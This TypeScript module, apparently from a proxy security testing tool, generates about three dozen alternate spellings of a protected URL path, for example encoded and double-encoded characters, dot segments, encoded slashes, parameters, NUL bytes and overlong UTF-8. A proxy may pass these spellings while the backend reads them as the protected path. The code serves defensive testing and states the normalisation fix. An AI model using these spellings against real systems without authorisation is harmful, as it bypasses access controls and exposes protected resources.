// Attacks on a path that not everybody may ask for: other spellings of it, which the proxy may let pass as another path and
// the target may take for this one.

import type { IAim, IAttack } from './types.js';
import { get, type IKind, octets } from './write-h1.js';

const kindOf = (protectedPath: string): IKind => ({
  family: 'path',
  about: `another spelling of ${protectedPath}, which is protected (CVE-2025-66490 and others)`,
  clause: 'RFC 3986 §6.2.2, RFC 9110 §4.2.3',
  change:
    'Match and forward one normal form of the path, and refuse what can be read as the protected path: encoded slashes, dots, NUL, parameters.',
  wish: { must: 'protected', protectedPath },
});

/** `/admin/secret`: `first` is `admin`, `rest` is `/secret`, or `''`; `from` is a path that is open, or one that nobody knows. */
type TSpelling = (first: string, rest: string, from: string) => string;

const hex = (text: string): string => `%${text.charCodeAt(0).toString(16)}`;

const spellings: readonly (readonly [name: string, spelling: TSpelling])[] = [
  ['a letter encoded', (first, rest) => `/${hex(first)}${first.slice(1)}${rest}`],
  ['a letter encoded in capitals', (first, rest) => `/${hex(first).toUpperCase()}${first.slice(1)}${rest}`],
  ['a letter encoded twice', (first, rest) => `/${hex(first).replace('%', '%25')}${first.slice(1)}${rest}`],
  ['two slashes before', (first, rest) => `//${first}${rest}`],
  ['a dot segment before', (first, rest) => `/./${first}${rest}`],
  ['up from elsewhere', (first, rest, from) => `${from}/../${first}${rest}`],
  ['up from elsewhere, dots encoded', (first, rest, from) => `${from}/%2e%2e/${first}${rest}`],
  ['up from elsewhere, one dot encoded', (first, rest, from) => `${from}/.%2E/${first}${rest}`],
  ['up from elsewhere, slashes encoded', (first, rest, from) => `${from}%2f..%2f${first}${rest}`],
  ['up from elsewhere, a slash encoded', (first, rest, from) => `${from}/..%2f${first}${rest}`],
  ['up from elsewhere, a backslash encoded', (first, rest, from) => `${from}/..%5c${first}${rest}`],
  ['up from elsewhere, a backslash', (first, rest, from) => `${from}/..\\${first}${rest}`],
  ['up from elsewhere, with a parameter', (first, rest, from) => `${from}/..;/${first}${rest}`],
  ['up above the root', (first, rest) => `/../../${first}${rest}`],
  ['a slash encoded before', (first, rest) => `/%2f${first}${rest}`],
  ['a parameter', (first, rest) => `/${first};a=b${rest}`],
  ['a parameter before', (first, rest) => `/;/${first}${rest}`],
  ['an empty parameter', (first, rest) => `/${first};${rest}`],
  ['NUL behind', (first, rest) => `/${first}${rest}%00`],
  ['NUL and an ending', (first, rest) => `/${first}${rest}%00.css`],
  ['slashes encoded', (first, rest) => `/${first}${rest.replaceAll('/', '%2f')}`],
  ['backslashes encoded', (first, rest) => `/${first}${rest.replaceAll('/', '%5C')}`],
  ['backslashes', (first, rest) => `/${first}${rest.replaceAll('/', '\\')}`],
  ['two slashes within', (first, rest) => `/${first}${rest.replaceAll('/', '//')}`],
  ['a dot segment within', (first, rest) => `/${first}${rest.replaceAll('/', '/./')}`],
  ['down and up within', (first, rest) => `/${first}${rest.replaceAll('/', '/x/../')}`],
  ['a query', (first, rest) => `/${first}${rest}?x`],
  ['a fragment', (first, rest) => `/${first}${rest}#x`],
  ['a dot behind', (first, rest) => `/${first}${rest}.`],
  ['a space behind', (first, rest) => `/${first}${rest}%20`],
  ['a dot behind the first segment', (first, rest) => `/${first}.${rest}`],
  ['a question mark encoded behind', (first, rest) => `/${first}${rest}%3fx`],
  ['an encoded parameter', (first, rest) => `/${first}%3bx${rest}`],
  ['up from elsewhere, dots encoded twice', (first, rest, from) => `${from}/%252e%252e/${first}${rest}`],
  ['an overlong letter', (first, rest) => `/%c1%${(first.charCodeAt(0) + 0x40).toString(16)}${first.slice(1)}${rest}`],
  ['an overlong octet', (first, rest, from) => `${from}/%c0%ae%c0%ae/${first}${rest}`],
];

const at = (aim: IAim, target: string): string => get(aim).replace(` ${aim.path} `, () => ` ${target} `);

/** `openPath` is served to anybody. */
export function pathAttacks(protectedPath: string, openPath: string): readonly IAttack[] {
  const [, first = '', rest = ''] = /^\/([^/]+)(.*)$/s.exec(protectedPath) ?? [];
  if (first === '') return [];
  const kind = kindOf(protectedPath);
  const from = /^\/[^/]+(?=\/)/.exec(openPath)?.[0] ?? '/x';
  const texts = spellings.map(([name, spelling]) => [name, spelling(first, rest, from)] as const);
  // Where there is nothing to spell otherwise it is the path itself.
  const others = texts.filter(([, target]) => target !== protectedPath);
  return [
    ...others.map(([name, target]) => octets(kind, `${target} (${name})`, (aim) => at(aim, target))),
    octets(kind, `${protectedPath} (absolute form)`, (aim) =>
      at(aim, `${aim.isTls ? 'https' : 'http'}://${aim.host}${protectedPath}`),
    ),
  ];
}
